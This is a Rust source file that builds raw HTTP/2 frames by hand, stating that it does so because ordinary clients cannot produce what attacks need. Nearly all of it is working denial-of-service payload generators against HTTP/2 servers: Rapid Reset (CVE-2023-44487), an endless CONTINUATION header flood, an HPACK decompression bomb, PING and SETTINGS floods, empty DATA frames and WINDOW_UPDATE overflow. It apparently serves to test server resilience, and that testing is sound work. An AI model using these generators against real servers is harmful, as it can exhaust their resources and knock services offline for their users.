//! HTTP/2 by hand (RFC 9113), because no client makes what attacks need.

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub(crate) const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
pub(crate) const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
/// The header block ends with this frame.
pub(crate) const END_HEADERS: u8 = 4;
/// `:method: POST`, `:scheme: http`, `:path: /` of the static table.
const POST: [u8; 3] = [0x83, 0x86, 0x84];
/// Frames of one write.
const AT_ONCE: u32 = 64;

/// A frame.
pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut out = length[1..].to_vec();
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

fn many(at: u32, frames: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..AT_ONCE).flat_map(|n| frames(2 * (at * AT_ONCE + n) + 1)).collect()
}

/// The beginning of every connection.
pub(crate) fn opening() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

/// Opens a stream, which `more` goes on with.
pub(crate) fn open_stream(flags: u8) -> Vec<u8> {
    [opening(), frame(HEADERS, flags, 1, &POST)].concat()
}

/// Opens streams and takes them back (CVE-2023-44487).
pub(crate) fn rapid_reset(at: u32) -> Vec<u8> {
    let cancel = 8_u32.to_be_bytes();
    many(at, |stream| {
        [frame(HEADERS, END_HEADERS, stream, &POST), frame(RST_STREAM, 0, stream, &cancel)].concat()
    })
}

/// Header fields that never end.
pub(crate) fn continuation(_at: u32) -> Vec<u8> {
    frame(CONTINUATION, 0, 1, &[0x00, 1, b'a', 1, b'b'].repeat(3000))
}

/// A field of 3,000 bytes put into the table, then named 4,000 times: 12 MB of header in 7 KB.
pub(crate) fn hpack_bomb(at: u32) -> Vec<u8> {
    let mut block = POST.to_vec();
    // Literal with indexing; name `x`; the length 3,000 in HPACK's integers of 7 bits (RFC 7541 5.1).
    block.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0xb9, 0x16]);
    block.extend_from_slice(&[b'y'; 3000]);
    block.extend_from_slice(&[0xbe; 4000]);
    frame(HEADERS, END_HEADERS, 2 * at + 1, &block)
}

/// Asks for an answer to each.
pub(crate) fn pings(at: u32) -> Vec<u8> {
    many(at, |n| frame(PING, 0, 0, &u64::from(n).to_be_bytes()))
}

/// Asks for an acknowledgement of each.
pub(crate) fn settings(at: u32) -> Vec<u8> {
    many(at, |_| frame(SETTINGS, 0, 0, &[]))
}

/// Body frames without bytes.
pub(crate) fn empty_data(at: u32) -> Vec<u8> {
    many(at, |_| frame(DATA, 0, 1, &[]))
}

/// More credit than the protocol allows.
pub(crate) fn window_overflow(at: u32) -> Vec<u8> {
    many(at, |_| frame(WINDOW_UPDATE, 0, 0, &0x7fff_ffff_u32.to_be_bytes()))
}
